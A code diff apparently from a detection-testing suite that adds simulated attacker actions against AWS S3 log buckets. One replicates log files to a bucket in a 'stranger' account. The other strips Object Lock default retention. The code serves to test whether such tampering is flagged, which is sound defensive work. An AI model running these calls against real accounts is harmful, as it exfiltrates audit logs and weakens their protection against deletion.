@@ -26,10 +26,12 @@ import {
   DeleteBucketCommand,
   DeleteBucketPolicyCommand,
   PutBucketLifecycleConfigurationCommand,
+  PutBucketReplicationCommand,
   PutBucketVersioningCommand,
+  PutObjectLockConfigurationCommand,
 } from '@aws-sdk/client-s3';
 import type { RuleId } from '#domain/findings/rule-id.ts';
-import { alone, bucketOf, keyOf, managed, storeOf, strangeKey } from './attack-world.ts';
+import { alone, bucketOf, keyOf, managed, storeOf, stranger, strangeKey } from './attack-world.ts';
 
 /** Clients of whoever attacks, in one account. */
 export interface Hands {
@@ -304,6 +306,42 @@ export const stories: readonly Story[] = [
       ),
     pace: 'seconds',
     rules: ['versioning-suspended'],
+  },
+  {
+    title: 'Log files are copied to a stranger as well',
+    calls: 'PutBucketReplication',
+    account: alone.copied,
+    deed: ({ buckets }) =>
+      buckets.send(
+        new PutBucketReplicationCommand({
+          Bucket: bucketOf(alone.copied),
+          ReplicationConfiguration: {
+            Role: `arn:aws:iam::${alone.copied}:role/replication`,
+            Rules: [
+              {
+                Status: 'Enabled',
+                Destination: { Bucket: 'arn:aws:s3:::of-a-stranger', Account: stranger },
+              },
+            ],
+          },
+        }),
+      ),
+    pace: 'seconds',
+    rules: [],
+  },
+  {
+    title: 'The retention that a bucket with Object Lock gives new objects is taken away',
+    calls: 'PutObjectLockConfiguration',
+    account: alone.unlocked,
+    deed: ({ buckets }) =>
+      buckets.send(
+        new PutObjectLockConfigurationCommand({
+          Bucket: bucketOf(alone.unlocked),
+          ObjectLockConfiguration: { ObjectLockEnabled: 'Enabled' },
+        }),
+      ),
+    pace: 'seconds',
+    rules: [],
   },
   {
     title: 'An event data store of CloudTrail Lake is stopped',
